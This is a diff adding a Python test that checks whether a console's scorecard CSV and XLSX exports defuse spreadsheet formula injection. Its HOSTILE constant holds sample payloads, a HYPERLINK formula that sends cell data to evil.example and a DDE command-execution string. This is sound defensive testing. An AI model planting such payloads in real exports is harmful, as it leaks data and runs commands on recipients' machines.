@@ -108,6 +108,64 @@ def test_the_draft_and_published_scorecards_download_as_csv_and_xlsx(
     assert "Version 1" in client.get(f"/console/voice?month={MONTH}").text
 
 
+HOSTILE = {'=HYPERLINK("http://evil.example/?"&A1)': "@SUM(A1:A9)", "+cmd|' /C calc'!A0": "-2+3"}
+
+
+def hostile_answers(engine: Engine, clock: FrozenClock) -> None:
+    """Answers whose agent and team names a spreadsheet would run as formulas (imported answers and
+    the desk's contacts take any name)."""
+    rows = [
+        {
+            "id": f"H{n}",
+            "member_ref": "M1",
+            "answered_at": f"2025-12-{1 + n:02d}T10:00:00Z",
+            "agent": agent,
+            "team": team,
+            "channel": "phone",
+            "reason": "card.lost_stolen",
+            "recommend": "0",  # RTF -100: a negative number that must stay a number
+            "interaction": "1",
+        }
+        for n, (agent, team) in enumerate(HOSTILE.items())
+    ]
+    with unit_of_work(engine) as session:
+        voice.import_answers(session, rows=rows, now=clock.now())
+
+
+def test_scorecard_files_never_hand_a_spreadsheet_a_formula(
+    world: Api, engine: Engine, clock: FrozenClock
+) -> None:
+    """CSV injection: a cell starting with = + - or @ is run as a formula by Excel or LibreOffice
+    (``=HYPERLINK`` leaks the sheet, DDE runs a command). In the CSV such a text cell is prefixed with
+    an apostrophe (shown as text, the name still readable); in the XLSX it is a text cell, never a
+    formula. Numbers, negative ones included, stay numbers."""
+    hostile_answers(engine, clock)
+    client = browser(world)
+    sign_in(client, "sup1")
+    draft = client.get(f"/console/voice/scorecard.csv?month={MONTH}&draft=true")
+    assert draft.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(draft.text)))
+    assert sorted((r["agent"], r["team"]) for r in rows) == sorted(
+        (f"'{agent}", f"'{team}") for agent, team in HOSTILE.items()
+    )
+    assert {r["rtf"] for r in rows} == {"-100.0"}
+    with unit_of_work(engine) as session:
+        voice.publish_scorecard(session, month=MONTH, by="sup1", reason="monthly", now=clock.now())
+    for query in (f"month={MONTH}", f"month={MONTH}&draft=true"):
+        book = client.get(f"/console/voice/scorecard.xlsx?{query}")
+        assert book.status_code == 200
+        sheet = load_workbook(io.BytesIO(book.content)).active
+        assert sheet is not None
+        header = [cell.value for cell in sheet[1]]
+        agent_at, team_at, rtf_at = header.index("agent"), header.index("team"), header.index("rtf")
+        found = {(row[agent_at].value, row[team_at].value) for row in sheet.iter_rows(min_row=2)}
+        assert found == set(HOSTILE.items())  # the names as they are, as text
+        for row in sheet.iter_rows(min_row=2):
+            assert row[agent_at].data_type == "s" and row[team_at].data_type == "s"
+            assert row[rtf_at].data_type == "n" and row[rtf_at].value == -100.0
+        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+
+
 def test_a_supervisor_moves_a_suggestion_along(world: Api, engine: Engine, clock: FrozenClock) -> None:
     answers(engine, clock)
     with read_session(engine) as session:
